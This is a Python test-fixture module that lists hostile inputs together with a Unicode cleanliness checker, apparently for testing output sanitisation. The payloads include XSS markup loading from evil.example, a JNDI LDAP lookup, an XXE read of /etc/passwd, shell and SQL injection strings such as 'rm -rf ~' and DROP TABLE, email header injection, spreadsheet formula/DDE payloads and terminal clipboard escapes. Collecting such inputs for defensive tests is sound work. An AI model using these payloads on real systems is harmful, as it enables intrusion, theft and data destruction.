"""What hostile pages, feeds, headers and files say, by name: texts that become something else where nobody looks.

It must not be what is expected of them: each test says that.
"""

from __future__ import annotations

import unicodedata

PRODUCT = str(7654321 * 1234567)
"""What a template or a formula would make of some of them."""

PAYLOADS = {
    # what is no text, or is not seen, or turns what stands beside it around
    "nul": "nul\x00nul",
    "controls": "a\x01\x08\x0b\x0c\x1f\x7fb",
    "c1": "a\x80\x85\x9b31m\x9d0;title\x9cb",
    "surrogates": "half \ud800 pair \udfff, \udc0a\udc0d \ud83d\ude00",
    "noncharacters": "a\ufdd0\ufdef\ufffe\uffff\U0001fffe\U0010ffffb",
    "overrides": "\u202egnp.exe\u202c \u202dx\u202ay\u202bz",
    "isolates": "\u2066a\u2067b\u2068c\u2069",
    "zero-width": "As\u200bta\u2060na\ufeff \u2062\u2064\u206a\u206f",
    "tags": "flag\U000e0001\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f",
    "annotation": "a\ufff9b\ufffac\ufffb",
    "marks": "Z" + "\u0301\u0316\u0489\u20dd" * 25 + "algo",
    "decomposed": "Cafe\u0301 Й И\u0306 \uac00\u11a8 \u1112\u1161\u11ab",
    "separators": "one\u2028two\u2029three",
    # terminals
    "ansi": "\x1b[31mred\x1b[0m\x1b[2J\x1b[1A\x1b]0;owned\x07",
    "osc-8": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4K\x07\x1bP+q544e\x1b\\",
    "bell": "\x07\x08\x08\x08\r\r\n\x0b",
    "markup-of-rich": "[bold red]x[/] [link=https://evil.example]y[/link] :skull: [/]",
    # lines, headers and logs
    "crlf": "Council\r\nBcc: victim@example.org\r\n\r\nbody",
    "lf": "Council\nBcc: victim@example.org",
    "cr": "Council\rBcc: victim@example.org",
    "log-line": "x\ntimestamp='2024-10-04T00:00:00Z' level='info' event='alert_accepted' alert=1",
    "encoded-word": "=?UTF-8?Q?=0A?=Bcc: victim@example.org",
    "encoded-words": "=?UTF-8?Q?=0D=0A?= =?utf-8?b?DQpCY2M6IHZAZXhhbXBsZS5vcmc=?=",
    "encoded-utf-7": "=?utf-7?q?+AA0ACg-Bcc:_v@example.org?= +AA0ACg-Bcc: v@example.org",
    "smtp": ".\r\n.\r\nQUIT\r\nMAIL FROM:<x@example.org>",
    "mime": "--===============0==\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "event-line": '"}\n{"event": "finished", "source": "words"}',
    # formulas
    "formula-equals": '=HYPERLINK("https://evil.example","click")',
    "formula-plus": "+7654321*1234567",
    "formula-minus": "-7654321*1234567|cmd",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-bar": "|cmd' /C calc'!A0",
    "formula-tab": "\t=7654321*1234567",
    "formula-return": "\r=7654321*1234567",
    "formula-wide": "\uff1d7654321*1234567",
    "formula-unseen": "\u200e\u0301 =7654321*1234567",
    "formula-behind": 'x",=7654321*1234567,"\n=7654321*1234567',
    # templates
    "braces": "{{7654321*1234567}} {% raw %} {# x #} {{ letter.__class__.__mro__ }}",
    "dollar": "${7654321*1234567} $(id) `id` #{7654321*1234567} <%= 7654321*1234567 %>",
    "percent": "%s %n %x %(message)s %d%% %1$s {} {0} {0.__class__} {event}",
    "jndi": "${jndi:ldap://evil.example/a}",
    # markup
    "script": "</script><script>alert(1)</script>",
    "image": "\"><img src=x onerror=alert(1)><svg/onload=alert(1)>'",
    "ends": "--> ]]> ?> </title></style></textarea></bdi></head><body onload=alert(1)>",
    "references": "&lt;script&gt; &#60;img src=x&#62; &#13;&#10;Bcc: v@example.org &#0; &#x202e;",
    "entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "style": "' style='background:url(//evil.example)' x='",
    "javascript": "javascript:alert(document.cookie)",
    "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "link-of-mail": "https://example.org/%0d%0aBcc:%20v@example.org?subject=x&bcc=v@example.org",
    "mention": "@everyone <!channel> <@U1> [x](https://evil.example) *b* `c`",
    # files, shells, SQL, ics
    "path": "../../../../etc/passwd\x00.html",
    "windows-path": "..\\..\\CON:$DATA",
    "shell": "; rm -rf ~ #'\"$(touch /tmp/x)`id`&&|",
    "sql": "'; DROP TABLE meeting; --",
    "calendar": "x\\;y\\,z\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE",
    # sizes
    "long": "word " * 4_000,
    "long-word": "w" * 20_000,
    "wide": "🎉" * 4_000,
}

DIRECTIONS = {*range(0x202A, 0x202F), *range(0x2066, 0x2070)}
UNSEEN = {0xAD, 0x200B, *range(0x2060, 0x2065), 0xFEFF, *range(0xFFF9, 0xFFFC), *range(0xE0000, 0xE0080)}
_MOST_MARKS = 8


def bad_signs(text: str, *, lines: str = "\n") -> list[str]:
    """What must not be in a text that is clean: of `lines`, none is bad."""
    return [f"U+{ord(sign):04X}" for sign in text if sign not in lines and _is_bad(sign)]


def is_clean(text: str, *, lines: str = "\n") -> bool:
    """Whether `text` has no bad sign, is in NFC, and has no letter under a heap of marks."""
    kinds = "".join("m" if unicodedata.category(sign) in ("Mn", "Me") else "." for sign in text)
    is_composed = unicodedata.is_normalized("NFC", text)
    return is_composed and not bad_signs(text, lines=lines) and "m" * (_MOST_MARKS + 1) not in kinds


def _is_bad(sign: str) -> bool:
    code = ord(sign)
    is_noncharacter = code & 0xFFFE == 0xFFFE or 0xFDD0 <= code < 0xFDF0
    is_odd = unicodedata.category(sign) in ("Cc", "Cs", "Zl", "Zp")
    return is_odd or is_noncharacter or code in DIRECTIONS or code in UNSEEN


MARKUP = (
    "<script>owned(1)</script>",
    "<ScRiPt >owned(1)</sCrIpT >",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js async>",
    "<img src=https://evil.example/pixel.gif onload=owned(1)>",
    "<img src=x onerror=owned(1)>",
    '"><img src=x onerror=owned(1)>',
    "'><img src=x onerror=owned(1)>",
    '" autofocus onfocus=owned(1) x="',
    "' autofocus onfocus=owned(1) x='",
    "x onmouseover=owned(1) y=",
    "`onmouseover=owned(1)",
    "<svg onload=owned(1)>",
    "<svg><script>owned&#40;1)</script>",
    "<svg><animate onbegin=owned(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:owned(1)><text x=20 y=20>x</text></a>",
    "<svg><use href='https://evil.example/x.svg#x'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=owned(1)&gt;'>",
    "<iframe srcdoc='<script>parent.owned(1)</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<div style=\"background:url('https://evil.example/x')\">x</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    "<input type=image src=https://evil.example/x formaction=javascript:owned(1)>",
    "<video poster=https://evil.example/x><source onerror=owned(1)></video>",
    "<audio src=https://evil.example/x autoplay onerror=owned(1)></audio>",
    "<body onload=owned(1)>",
    "<details open ontoggle=owned(1)>x</details>",
    "<marquee onstart=owned(1)>x</marquee>",
    "<a href=javascript:owned(1) ping=https://evil.example/>x</a>",
    "<a href='data:text/html,<script>owned(1)</script>'>x</a>",
    "<template><script>owned(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=owned(1)>'>",
    "</title><script>owned(1)</script>",
    "</textarea><script>owned(1)</script>",
    "</option></select><script>owned(1)</script>",
    "</mark></bdi></p></main><script>owned(1)</script>",
    "<!--<img src='--><img src=x onerror=owned(1)//'>",
    "<![CDATA[<script>owned(1)</script>]]>",
    "&lt;script&gt;owned(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;owned(1)&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;owned(1)",
    "\\u003cscript\\u003eowned(1)\\u003c/script\\u003e",
    "%3Cscript%3Eowned(1)%3C/script%3E",
    "+ADw-script+AD4-owned(1)+ADw-/script+AD4-",
    "{{constructor.constructor('owned(1)')()}}",
    "{{ config }}{% include 'site.html.j2' %}",
    "<x-y is=z onclick=owned(1) tabindex=1 autofocus onfocus=owned(1)>",
    "<portal src=https://evil.example/>",
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.example/"]}]}</script>',
    "<dialog open><form method=dialog><button formaction=//evil.example>x</button></form></dialog>",
    "\u2028<script>owned(1)</script>\u2029",
    "\uff1cscript\uff1eowned(1)\uff1c/script\uff1e",
    "javascript:owned(1)",
    "jAvAsCrIpT&colon;owned(1)",
    "java\tscript:owned(1)",
    "vbscript:owned(1)",
    "data:text/html;base64,PHNjcmlwdD5vd25lZCgxKTwvc2NyaXB0Pg==",
    "//evil.example/",
    "https://evil.example/?<script>owned(1)</script>",
)
"""What pages of ours must show as it stands: run, `owned` would be called or evil.example asked."""
